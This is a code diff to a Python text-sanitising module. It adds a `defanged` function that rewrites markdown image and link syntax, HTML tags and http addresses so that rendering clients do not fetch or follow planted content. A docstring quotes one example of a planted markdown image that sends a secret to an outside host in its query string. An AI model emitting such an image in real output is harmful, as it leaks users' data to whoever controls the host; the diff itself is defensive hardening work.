@@ -5,6 +5,10 @@ read are taken out: C0/C1 control characters (a terminal's escape sequences can 
 window or clear the screen) and the bidi overrides, embeddings and isolates that reorder what
 follows ("news\u202efdp.txt" would read "newstxt.pdf"). Arabic's own marks (LRM, RLM, ALM)
 only set direction and stay. A line break becomes a space where one line is expected.
+
+Text handed to other programs (the API, `--json`) that is not a verified answer, such as a
+refused draft or a quoted passage, is also `defanged`: a client that renders markdown or HTML
+must not fetch a planted image ("![x](http://host/?data=SECRET)") or follow a planted link.
 """
 
 from __future__ import annotations
@@ -19,3 +23,18 @@ def shown(text: str, one_line: bool = False) -> str:
     kept (as spaces with `one_line`)."""
     text = _ACTIVE.sub("", text)
     return " ".join(text.split()) if one_line else text
+
+
+_MARKUP = (
+    (re.compile(r"!\["), "! ["),  # markdown image
+    (re.compile(r"\]\("), "] ("),  # markdown link target
+    (re.compile(r"<(?=\s*/?\s*[A-Za-z!?])"), "‹"),  # an HTML tag or comment
+    (re.compile(r"\bhttp(s?)://", re.IGNORECASE), r"hxxp\1://"),  # not a link any more
+)
+
+
+def defanged(text: str) -> str:
+    """`text` as plain words: no markdown image or link, HTML tag or clickable address."""
+    for pattern, replacement in _MARKUP:
+        text = pattern.sub(replacement, text)
+    return text
